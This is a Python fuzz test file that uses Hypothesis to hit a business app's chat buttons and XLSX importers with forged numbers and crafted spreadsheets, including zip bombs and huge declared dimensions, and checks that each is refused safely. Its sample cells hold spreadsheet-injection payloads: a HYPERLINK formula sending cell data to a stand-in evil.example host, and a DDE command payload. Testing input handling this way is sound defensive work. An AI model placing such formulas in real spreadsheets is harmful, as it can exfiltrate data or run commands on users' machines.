"""Hypothesis against hostile input: every registered button prefix with forged numbers (inf,
nan, 1e30, negative, huge, non-ASCII digits, random text), the order flow's quantity button, and
every import kind with XLSX files built to hurt (a huge declared dimension, a zip bomb, formula
cells, very long cells, non-finite and huge numbers).

Invariants: no unhandled exception, invalid input changes nothing, and the event loop is never
held (every import ends within seconds, refused or not)."""
from __future__ import annotations

import re
import time
from decimal import Decimal

import pytest
import sqlalchemy as sa
from hypothesis import example, given, strategies as st
from sqlmodel import select

from domain.dataio import KINDS, import_file
from domain.dataio.budget import ImportBudget
from domain.errors import InvalidInput
from domain.models import Conversation, Product

from ..hostile import xlsx
from .conftest import BOSS, REP, WORKER
from .fuzz import FUZZ, fingerprint
from .test_fuzz_dialogue import PREFIXES, fuzz_services, reset, say  # noqa: F401  (fixtures)

HOSTILE_NUMBERS = ["inf", "Infinity", "-Infinity", "NaN", "nan", "sNaN", "1E+30", "1e30", "-1", "-0", "0", "1e-30",
                   "9" * 40, str(2**31), str(2**63), str(-(2**31)), "1_000", "٣", "１２", "²", "0x1F", "1.5e3", "١٠"]
hostile_number = st.one_of(st.sampled_from(HOSTILE_NUMBERS), st.integers(-10**40, -1).map(str),
                           st.integers(2**31, 10**60).map(str), st.floats().map(repr),
                           st.text(st.characters(codec="utf-8"), min_size=1, max_size=12))
forged = st.builds(lambda p, parts: f"{p}:" + ":".join(parts), st.sampled_from(PREFIXES),
                   st.lists(hostile_number, min_size=1, max_size=3))


@FUZZ
@given(who=st.sampled_from([WORKER, BOSS, REP]), data=forged)
@example(who=REP, data="order_prod:23:Infinity")
@example(who=WORKER, data="pick_qty:NaN")
async def test_fuzz_every_button_prefix_with_forged_numbers_changes_nothing(fuzz_services, say, who, data):
    await reset(fuzz_services, who)
    before = await fingerprint(fuzz_services)
    await say(who, kind="callback", callback=data)
    assert await fingerprint(fuzz_services) == before


async def _in_order_lines(services, who: int) -> None:
    """The person is adding lines to a new order for ACME (as after "/order acme")."""
    async with services.uow() as uow:
        conv = (await uow.session.exec(select(Conversation).where(Conversation.external_id == str(who)))).one()
        conv.flow, conv.step = "order", "lines"
        conv.data = {"customer_id": 1, "customer_name": "ACME", "lines": []}
        await uow.commit()


async def _order_lines_state(services, who: int):
    async with services.uow() as uow:
        conv = (await uow.session.exec(select(Conversation).where(Conversation.external_id == str(who)))).one()
        return conv.flow, conv.step, conv.data.get("lines")


@FUZZ
@given(qty=hostile_number, product=st.integers(1, 40))
@example(qty="Infinity", product=1)
@example(qty="1E+30", product=1)
@example(qty="NaN", product=1)
async def test_fuzz_order_quantity_button_refuses_forged_quantities(fuzz_services, say, qty, product):
    await say(REP, kind="text", text="/cancel")
    await _in_order_lines(fuzz_services, REP)
    before = await fingerprint(fuzz_services)
    replies = await say(REP, kind="callback", callback=f"order_prod:{product}:{qty}")
    flow, step, lines = await _order_lines_state(fuzz_services, REP)
    # A number as a person would type it, positive and in range, may be taken (as "1.0" is);
    # anything else (inf, nan, 1e30, signs, other digits, text) must leave the draft as it was.
    typed = re.fullmatch(r"\+?([0-9]{1,15}(?:[.,][0-9]*)?)", qty)
    plausible = typed is not None and 0 < Decimal(typed.group(1).replace(",", ".")) < 10**12
    if not plausible:
        assert lines == [], (qty, replies)
    for line in lines or []:
        assert Decimal(line["qty"]).is_finite() and Decimal(line["qty"]) < 10**12
    assert await fingerprint(fuzz_services) == before


# --- import kinds ---------------------------------------------------------------------------------
SMALL = ImportBudget(max_cells=200_000, max_unpacked_bytes=8 << 20, max_part_bytes=4 << 20, max_seconds=20)
cell = st.one_of(
    st.sampled_from(['=HYPERLINK("http://evil.example/?d="&C2,"Open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1+1",
                     "'=x", "\u202eEvil", "A\u200b1", "\x00", "inf", "NaN", "1e30", "-0", "9" * 30, ""]),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30),
    st.integers(-10**30, 10**30), st.floats(), st.booleans(), st.none(),
    st.builds(lambda ch, n: ch * n, st.sampled_from(["x", "я", "字"]), st.integers(150, 6000)),
)
shape = st.sampled_from(["plain", "formula", "huge_dimension", "far_cells", "bomb"])


def _build(tmp_path, kind: str, rows: list[list], how: str):
    path = tmp_path / f"{kind}.xlsx"
    header = [c.name for c in KINDS[kind].columns]
    rows = [header] + [r[:len(header)] + [None] * (len(header) - len(r)) for r in rows]
    if how == "huge_dimension":  # refused from the declaration alone: the content does not matter
        return xlsx.huge_dimension(path, [header, ["x"] * len(header)])
    if how == "far_cells":
        return xlsx.far_cells_without_dimension(path, [header], far_rows=50)
    if how == "bomb":
        return xlsx.cell_bomb(path, [header], megabytes=16)
    # Written by hand: control characters and non-finite numbers go into the XML as they are.
    formula = ("f", 'HYPERLINK("http://evil.example/","x")', "x")
    return xlsx.formula_cells(path, [[formula if how == "formula" and c == "" else ("" if c is None else c) for c in r]
                                     for r in rows])


async def _rows_in(session, kind: str) -> int:
    table = KINDS[kind].table
    return (await session.exec(sa.select(sa.func.count()).select_from(table))).one()[0]


@FUZZ
@given(kind=st.sampled_from(sorted(KINDS)), how=shape,
       rows=st.lists(st.lists(cell, min_size=1, max_size=12), min_size=1, max_size=6))
async def test_fuzz_every_import_kind_with_hostile_xlsx(demo_engine, tmp_path_factory, kind, how, rows):
    from sqlmodel.ext.asyncio.session import AsyncSession

    tmp = tmp_path_factory.mktemp("hostile")
    path = _build(tmp, kind, rows, how)
    async with AsyncSession(demo_engine, expire_on_commit=False) as session:
        before = await _rows_in(session, kind)
        started = time.perf_counter()
        try:
            summary = await import_file(session, kind, path, country="BG", budget=SMALL)
        except InvalidInput:
            summary = None
        took = time.perf_counter() - started
        if summary is None or summary.errors:
            assert await _rows_in(session, kind) == before, (kind, how, rows)
        if how in ("huge_dimension", "far_cells", "bomb"):
            assert summary is None, (kind, how)
        await session.rollback()  # whatever a valid file wrote is not kept: every example starts the same
    assert took < 20, (kind, how, took)


@pytest.mark.parametrize("kind", sorted(KINDS))
async def test_every_kind_refuses_the_probe_files(demo_engine, tmp_path, kind):
    from sqlmodel.ext.asyncio.session import AsyncSession

    header = [c.name for c in KINDS[kind].columns]
    for how, match in (("huge_dimension", "declares"), ("bomb", "unpacks to"), ("far_cells", "cells")):
        path = _build(tmp_path, kind, [["x"] * len(header)], how)
        async with AsyncSession(demo_engine) as session:
            with pytest.raises(InvalidInput, match=match):
                await import_file(session, kind, path, budget=SMALL if how != "huge_dimension" else ImportBudget())
            assert (await session.exec(select(sa.func.count()).select_from(Product))).one() > 0
